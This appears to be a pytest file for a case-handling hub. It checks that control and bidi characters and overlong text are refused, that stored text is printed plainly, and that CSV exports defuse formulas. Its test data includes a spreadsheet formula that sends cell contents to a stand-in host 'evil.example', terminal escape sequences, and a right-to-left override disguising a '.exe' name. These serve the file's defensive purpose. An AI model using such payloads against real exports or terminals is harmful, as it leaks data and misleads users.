"""Text from people and stations at the hub (issue 10, items 6, 10 and 13).

Reasons, reviewers' names and missing materials are refused with control or bidi characters or past
their limit (CLI exit 2, a 400 on the desk and the API, nothing written); what is stored already is
printed plain by ``hub`` commands (a software string ``[/x]`` crashed ``hub station list`` and
``hub status``), and the CSV export defuses formula cells.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from hub.ingest import ingest_sets
from hub.store import HubStore
from hub.testing import live_server
from hub.web.app import create_app
from tests.hub.builders import bearer, csrf_of, log_in
from tests.hub.test_cli import run

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"update")'
NOT_PRINTED = ("\x1b", "\x07", "\x9b", "\u202e")


@pytest.fixture
def case_no(store, identity, station):
    number, changes = station.new_case()
    ingest_sets(store, identity, [station.seal(changes)], station_id=station.station_id, now=station.clock)
    return number


def feed_items(store: HubStore) -> int:
    return store.db.execute("SELECT COUNT(*) FROM feed_items").fetchone()[0]


def set_station_text(store: HubStore, station_id: str, *, software: str, last_error: str) -> None:
    """As a 0.4 hub stored them from an unsigned header, before shapes were checked."""
    with store.transaction():
        store.db.execute(
            "UPDATE stations SET software = ?, last_error = ?, last_contact = ? WHERE station_id = ?",
            [software, last_error, "2026-11-26T01:00:00.000Z", station_id],
        )


# ---- refused at the hub's own entry points ------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ("--status", "refuse", "--reason", "材料不全\x1b[2J"),
        ("--status", "refuse", "--reason", "\u202e理由"),
        ("--status", "refuse", "--reason", "理" * 501),
        ("--status", "accept", "--by", "张\x1b]0;x\x07"),
        ("--status", "accept", "--by", "张" * 65),
        ("--status", "correct", "--missing", "户口簿\x9b2J"),
        ("--status", "correct", "--missing", "材料" * 51),
        ("--status", "correct", "--reason", "理" * 490, "--missing", "居民户口簿"),
    ],  # the notice as a whole: 500
    ids=["reason-esc", "reason-rlo", "reason-long", "by-esc", "by-long", "missing-c1", "missing-long", "notice-long"],
)
def test_case_decide_refuses_control_characters_and_overlong_text(hub_dir, store, case_no, args):
    before = feed_items(store)
    result = run(hub_dir, "case", "decide", case_no, *args)
    assert result.exit_code == 2, result.output
    assert "控制字符" in result.stderr or "超过" in result.stderr
    assert not any(ch in result.output for ch in NOT_PRINTED)
    assert store.row("cases", case_no)["status"] == "RECEIVED"
    assert feed_items(store) == before


def test_a_reason_within_the_limits_is_recorded(hub_dir, store, case_no):
    result = run(hub_dir, "case", "decide", case_no, "--status", "refuse", "--reason", "理" * 500, "--by", "张" * 64)
    assert result.exit_code == 0, result.output
    assert store.row("cases", case_no)["status"] == "NOT_ACCEPTED"


def test_station_revoke_refuses_a_reason_with_an_escape(hub_dir, store, station):
    result = run(hub_dir, "station", "revoke", station.station_id, "--reason", "stolen\x1b[2J")
    assert result.exit_code == 2
    assert store.station(station.station_id).revoked_at is None


def test_user_names_with_control_or_bidi_characters_are_refused(hub_dir):
    for name in ("ad\x1bmin", "ad\u202emin"):
        result = run(hub_dir, "user", "add", name, "--role", "admin", env={"HUB_USER_PASSWORD": "long-enough-pw"})
        assert result.exit_code == 2
    assert json.loads(run(hub_dir, "user", "list", "--json").stdout) == []


def test_the_desk_form_and_the_api_refuse_a_reason_with_an_override(client, store, case_no, rs_token):
    log_in(client, "rs")
    page = client.get(f"/desk/cases/{case_no}")
    form = client.post(
        f"/desk/cases/{case_no}/decision",
        data={"csrf": csrf_of(page.text), "status": "NOT_ACCEPTED", "reason": "不予受理\u202e.exe"},
        follow_redirects=False,
    )
    assert form.status_code == 400 and "控制字符" in form.text
    api = client.post(
        f"/api/v1/cases/{case_no}/decision",
        json={"status": "refuse", "reason": "x" * 100_000},
        headers=bearer(rs_token),
    )
    assert api.status_code == 400 and api.json()["error"] == "bad_input"
    assert "500" in api.json()["detail"]
    assert store.row("cases", case_no)["status"] == "RECEIVED"


# ---- stored text printed plain -----------------------------------------------------------------


def test_station_list_shows_a_markup_software_string_literally(hub_dir, store, station):
    set_station_text(store, station.station_id, software="[/x]", last_error="bad [b]set[/b]\x1b[2J\u202e")
    result = run(hub_dir, "--lang", "en", "station", "list")
    assert result.exit_code == 0, result.output
    assert "[/x]" in result.stdout and "bad [b]set[/b][2J" in result.stdout
    assert not any(ch in result.stdout for ch in NOT_PRINTED)
    raw = run(hub_dir, "station", "list", "--json")
    assert not any(ch in raw.stdout for ch in NOT_PRINTED)
    assert json.loads(raw.stdout)[0]["last_error"] == "bad [b]set[/b]\x1b[2J\u202e"  # JSON keeps the value


def test_case_list_prints_a_stored_escape_as_plain_text(hub_dir, store, case_no):
    with store.transaction():
        store.db.execute("UPDATE cases SET applicant_name = ? WHERE case_no = ?", ["\x1b[2J王", case_no])
    for args in (("case", "list"), ("case", "list", "--json")):
        result = run(hub_dir, *args)
        assert result.exit_code == 0, result.output
        assert case_no in result.stdout
        assert not any(ch in result.stdout for ch in NOT_PRINTED)


@pytest.mark.timeout(60)
def test_hub_status_and_the_csv_show_station_text_literally_and_defuse_formulas(
    settings, clock, store, station, station_b, admin_token
):
    set_station_text(store, station.station_id, software="[/x]", last_error="[red]\x1b]0;owned\x07")
    set_station_text(store, station_b.station_id, software=FORMULA, last_error="-1+1")
    with live_server(create_app(settings, now=clock)) as url:
        table = run(settings.data_dir, "--lang", "en", "status", "--url", url, "--token", admin_token)
        assert table.exit_code == 0, table.output
        assert "[/x]" in table.stdout and "[red]]0;owned" in table.stdout
        assert not any(ch in table.stdout for ch in NOT_PRINTED)
        scripted = run(settings.data_dir, "status", "--url", url, "--token", admin_token, "--json")
        assert scripted.exit_code == 0 and not any(ch in scripted.stdout for ch in NOT_PRINTED)
    response_text = _csv(settings, clock, admin_token)
    rows = {row[3]: row for row in csv.reader(io.StringIO(response_text.lstrip("\ufeff")))}
    header = rows.pop("代办点")
    software, error = header.index("版本"), header.index("最近错误")
    assert rows[station_b.station_id][software] == "'" + FORMULA
    assert rows[station_b.station_id][error] == "'-1+1"
    assert rows[station.station_id][software] == "[/x]"
    assert rows[station.station_id][error] == "[red]]0;owned"
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert "\x1b" not in response_text


def _csv(settings, clock, token: str) -> str:
    from litestar.testing import TestClient

    with TestClient(app=create_app(settings, now=clock)) as client:
        response = client.get("/api/v1/status.csv", headers=bearer(token))
        assert response.status_code == 200
        return response.text


def test_the_desk_shows_a_name_and_a_reason_without_overrides(client, store, case_no, users):
    with store.transaction():
        store.db.execute("UPDATE cases SET applicant_name = ? WHERE case_no = ?", ["王\u202e五\x1b", case_no])
        store.db.execute("UPDATE case_events SET reason = ? WHERE case_no = ?", ["退回\u202exe.txt", case_no])
    log_in(client, "rs")
    listed = client.get("/desk").text
    shown = client.get(f"/desk/cases/{case_no}").text
    assert "王五" in listed and "王五" in shown and "退回xe.txt" in shown
    assert not any(ch in listed + shown for ch in NOT_PRINTED)


def test_token_list_shows_a_user_name_with_brackets_literally(hub_dir):
    added = run(hub_dir, "user", "add", "[/x]", "--role", "admin", env={"HUB_USER_PASSWORD": "long-enough-pw"})
    assert added.exit_code == 0, added.output  # printable, no spaces: a valid name
    assert run(hub_dir, "token", "create", "--user", "[/x]").exit_code == 0
    listed = run(hub_dir, "token", "list")
    assert listed.exit_code == 0, listed.output
    assert "[/x]" in listed.stdout
